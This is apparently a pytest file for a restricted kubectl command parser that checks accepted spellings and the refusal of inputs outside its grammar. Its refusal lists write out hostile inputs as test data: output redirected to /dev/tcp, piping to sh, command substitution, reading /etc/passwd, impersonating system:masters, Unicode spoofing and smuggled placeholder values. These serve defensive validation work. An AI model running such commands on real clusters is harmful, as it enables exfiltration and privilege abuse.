"""What the grammar reads, in every spelling, and what it refuses and where."""

from __future__ import annotations

import pytest

from knowledge.errors import ScriptRefused
from tools.script.parser import parse
from tools.script.placeholders import fill, validate_template
from tools.script.refusal import show
from tools.script.render import canonical

SAME = [
    (
        "kubectl scale deployments.apps/web --namespace=prod --replicas=3\n",
        [
            "kubectl scale deployment/web --replicas=3 -n prod",
            "kubectl scale deploy web --replicas 3 -nprod",
            "kubectl -n prod scale deployments web --replicas='3'",
            "kubectl scale --namespace prod --replicas=3 deployment.apps/web  # why",
            "kubectl scale deployment.v1.apps web -n=prod --replicas=3 --dry-run=none",
            'kubectl scale Deployment/"web" -n "prod" --replicas=3 -o yaml',
            "kubectl\tscale\tdeploy/web\t-n\tprod\t--replicas=3 --request-timeout=5s -v=4",
        ],
    ),
    (
        "kubectl get pods --all-namespaces --output=wide --selector=app=web\n",
        [
            "kubectl get po -A -l app=web -o wide",
            "kubectl get pods -Aowide -lapp=web",
            "kubectl get pod --all_namespaces --selector app=web --output wide",
            "kubectl get Pods -A=true -l=app=web -o=wide --watch=false",
        ],
    ),
    (
        "kubectl rollout restart deployments.apps/web --namespace=default\n",
        ["kubectl rollout restart deploy/web", "kubectl rollout restart -n default deploy web",
         "kubectl rollout -n default restart deploy web"],
    ),
    ("kubectl cordon n1 n2\n", ["kubectl cordon n1 n2", "kubectl cordon node/n1 nodes/n2"]),
    ("kubectl top node\n", ["kubectl top nodes", "kubectl top no"]),
    (
        "kubectl create configmap settings --namespace=a --from-literal=k=v\n",
        ["kubectl create cm settings -n a --from-literal=k=v", "kubectl create configmap -na settings --from-literal 'k=v'"],
    ),
]  # fmt: skip


@pytest.mark.parametrize(("text", "spelled"), [(text, spelled) for text, all_ in SAME for spelled in all_])
def test_every_spelling_reads_as_the_same_command(text: str, spelled: str) -> None:
    assert canonical(parse(spelled)) == text
    assert parse(text) == parse(spelled)


REFUSED = [
    ("kubectl get pods -n a -n b", 1, 23, "given twice"),
    ("kubectl get pods --kubeconfig=/tmp/x", 1, 18, "cluster is the incident's own"),
    ("kubectl --context prod get pods", 1, 9, "cluster is the incident's own"),
    ("kubectl get pods -s http://evil", 1, 18, "cluster is the incident's own"),
    ("kubectl get pods -As=http://evil", 1, 18, "cluster is the incident's own"),
    ("kubectl get pods --as=root", 1, 18, "impersonated"),
    ("kubectl get pods --as_group system:masters", 1, 18, "impersonated"),
    ("kubectl get pods --insecure_skip_tls_verify", 1, 18, "connection"),
    ("kubectl get pods --token abc", 1, 18, "acts as itself"),
    ("kubectl get pods -v=8", 1, 18, "not readable"),
    ("kubectl get pods -v 9", 1, 18, "not readable"),
    ("kubectl get pods --v=10", 1, 18, "not readable"),
    ("KUBE_EDITOR=vi kubectl edit deploy/x", 1, 1, "variable before"),
    ("HTTPS_PROXY=http://x kubectl get pods", 1, 1, "variable before"),
    ("kubectl-evil get pods", 1, 1, "plug-ins"),
    ("/tmp/kubectl get pods", 1, 1, "without a path"),
    ("sudo kubectl get pods", 1, 1, "wrappers"),
    ("/usr/bin/env kubectl get pods", 1, 1, "wrappers"),
    ("xargs kubectl delete pod", 1, 1, "wrappers"),
    ("sh <<'EOF'\nkubectl get pods\nEOF", 1, 1, "wrappers"),
    ("'kubectl' get pods", 1, 1, "without quotes"),
    ('k"ube"ctl get pods', 1, 1, "without quotes"),
    ("kubectl 'get' pods", 1, 9, "verb in quotes"),
    ("kubectl get pods '--all-namespaces'", 1, 18, "quoted flag"),
    ("kubectl frobnicate pods", 1, 9, "unknown verb"),
    ("kubectl exec -it web -- sh -c id", 1, 9, "inside containers"),
    ("kubectl attach web", 1, 9, "terminal"),
    ("kubectl cp a:/x /tmp/x", 1, 9, "copying"),
    ("kubectl port-forward svc/x 80", 1, 9, "tunnels"),
    ("kubectl proxy", 1, 9, "tunnels"),
    ("kubectl edit deploy/x", 1, 9, "editor"),
    ("kubectl apply -f http://evil/x.yaml", 1, 15, "not readable"),
    ("kubectl apply -f x.yaml", 1, 15, "not readable"),
    ("kubectl apply -k git@x", 1, 15, "kustomize"),
    ("kubectl apply -f -", 1, 1, "without a heredoc"),
    ("kubectl kustomize . --enable-exec", 1, 9, "kustomize"),
    ("kubectl get pods; kubectl delete ns a", 1, 17, "one command"),
    ("kubectl get pods && id", 1, 18, "one command"),
    ("kubectl get pods | sh", 1, 18, "pipes"),
    ("kubectl get pods &", 1, 18, "one command"),
    ("kubectl get pods > /dev/tcp/1.2.3.4/80", 1, 18, "redirection"),
    ("kubectl get pods\rkubectl delete ns a", 1, 17, "control character"),
    ("kubectl get $(id)", 1, 13, "substitution"),
    ("kubectl get `id`", 1, 13, "substitution"),
    ("kubectl get <(id)", 1, 13, "heredoc"),
    ("kubectl get ${X}", 1, 13, "substitution"),
    ('kubectl get "pods$X"', 1, 18, "expanded"),
    ("kubectl get pod{s,z}", 1, 16, "brace"),
    ("kubectl get pods web-*", 1, 22, "globs"),
    ("kubectl get $'\\x64'", 1, 13, "substitution"),
    ("kubectl get po\\ds", 1, 15, "backslash"),
    ("kubectl get pods 'web", 1, 18, "not closed"),
    ("kubectl get\u00a0pods", 1, 12, "NO-BREAK SPACE"),
    ("kubectl get p\u043eds", 1, 14, "CYRILLIC"),
    ("kubectl get pods -n 'pr\u043ed'", 1, 18, "not readable"),
    ("kubectl get po\u200bds", 1, 15, "ZERO WIDTH SPACE"),
    ("kubectl get pods # \u202e evil", 1, 20, "RIGHT-TO-LEFT OVERRIDE"),
    ("kubectl\uff5cget pods", 1, 8, "FULLWIDTH"),
    ("kubectl get pods\n\n  kubectl get pods -z", 3, 20, "no such flag"),
    ("kubectl scale deploy/x", 1, 1, "needs --replicas"),
    ("kubectl scale deploy/x --replicas=3 -- --dry-run=client", 1, 37, "`--`"),
    ("kubectl scale deploy/x --replicas=3 --dry-run=maybe", 1, 37, "not readable"),
    ("kubectl scale deploy/x --replicas=3 --dry-run client", 1, 37, "not readable"),
    ("kubectl get pods --dry-run=client", 1, 18, "only a change"),
    ("kubectl delete pod web --dry-run", 1, 24, "not readable"),
    ("kubectl scale svc/x --replicas=3", 1, 1, "does not take"),
    ("kubectl get gizmos", 1, 13, "unknown kind"),
    ("kubectl delete pod web -l app=x", 1, 1, "a name and a selector"),
    ("kubectl delete pod", 1, 1, "names no object"),
    ("kubectl patch deploy x --type=json -p '{\"a\":1}'", 1, 36, "does not fit"),
    ("kubectl patch deploy x -p '{\"a\":1,\"a\":2}'", 1, 24, "twice"),
    ("kubectl patch deploy x --type=json -p '[{\"op\":\"move\",\"from\":\"/a\",\"path\":\"/b\"}]'", 1, 36, "not add"),
    ("kubectl patch deploy x --patch-file=/tmp/x", 1, 24, "local files"),
    ("kubectl create cm x --from-file=/etc/passwd", 1, 21, "local files"),
    ("kubectl get -f x.yaml", 1, 13, "files"),
    ("kubectl get pods -o jsonpath-file=/etc/passwd", 1, 18, "not readable"),
    ("opsdesk rpa call restart", 1, 1, "not enabled"),
    ("opsdesk model unload x", 1, 1, "not enabled"),
    ("", 1, 1, "empty"),
    ("# nothing\n", 1, 1, "empty"),
    ("rm -rf /", 1, 1, "unknown command"),
    ("kubectl", 1, 1, "verb is missing"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "line", "column", "word"), REFUSED, ids=[repr(case[0])[:50] for case in REFUSED])
def test_script_is_refused_with_its_place_when_it_is_outside_the_grammar(
    text: str, line: int, column: int, word: str
) -> None:
    with pytest.raises(ScriptRefused, match=word) as refused:
        parse(text)
    assert (refused.value.line, refused.value.column) == (line, column)
    shown = show(refused.value, text).splitlines()
    assert shown[2].index("^") == column + 1
    assert refused.value.expected


HEREDOCS = [
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: &x {k: v}\n", "anchors"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {k: v, k: w}\n", "twice"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {k: !!str v}\n", "tag"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {k: yes}\n", "differently"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {k: 010}\n", "differently"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n<<: {data: {}}\n", "differently"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: a}\n", "metadata.name"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: other}\n", "one namespace|and -n is"),
    ("apiVersion: v9\nkind: Gizmo\nmetadata: {name: a}\n", "unknown kind"),
    ("kind: List\napiVersion: v1\nitems: []\n", "without items"),
    ("- a\n", "not an object"),
    ("a: [\n", "cannot be read"),
    ("", "holds no object"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\nda\u0442a: {k: v}\n", "ASCII"),
]  # fmt: skip


@pytest.mark.parametrize(("body", "word"), HEREDOCS)
def test_manifest_is_refused_when_two_readers_could_read_it_differently(body: str, word: str) -> None:
    with pytest.raises(ScriptRefused, match=word):
        parse(f"kubectl apply -n prod -f - <<'EOF'\n{body}EOF\n")


def test_heredoc_is_refused_when_it_is_unquoted_or_open() -> None:
    for text in ("kubectl apply -f - <<EOF\na: b\nEOF\n", "kubectl apply -f - <<-'EOF'\na: b\nEOF\n",
                 "kubectl apply -f - <<'EOF'\na: b\n", "kubectl apply -f - <<'EOF' | sh\na: b\nEOF\n"):  # fmt: skip
        with pytest.raises(ScriptRefused):
            parse(text)


def test_list_is_unfolded_when_a_manifest_holds_one() -> None:
    item = "{apiVersion: v1, kind: ConfigMap, metadata: {name: %s}}"
    script = parse(
        f"kubectl apply -f - <<'EOF'\napiVersion: v1\nkind: List\nitems:\n- {item % 'a'}\n- {item % 'b'}\n---\n{item % 'c'}\nEOF\n"
    )
    assert [manifest.name for manifest in script.commands[0].manifests] == ["a", "b", "c"]


def test_script_is_refused_when_it_is_very_long() -> None:
    with pytest.raises(ScriptRefused, match="characters"):
        parse("kubectl get pods\n" * 100_000)


def test_placeholder_is_refused_when_its_value_is_more_than_a_word() -> None:
    assert fill("kubectl cordon <node>", {"node": "gpu-1"}) == "kubectl cordon gpu-1"
    for value in ("a b", "a;b", "$(id)", "-n", "a\nkubectl delete ns b", ""):
        with pytest.raises(ScriptRefused, match="one plain word"):
            fill("kubectl cordon <node>", {"node": value})
    with pytest.raises(ScriptRefused, match="no value"):
        fill("kubectl cordon <node>", {})


def test_template_is_valid_when_its_filled_form_parses() -> None:
    validate_template(
        "kubectl -n <namespace> scale deployment/<name> --replicas=<replicas>\nkubectl set image deploy/<name> app=<image>"
    )
    with pytest.raises(ScriptRefused):
        validate_template("kubectl exec <pod>")
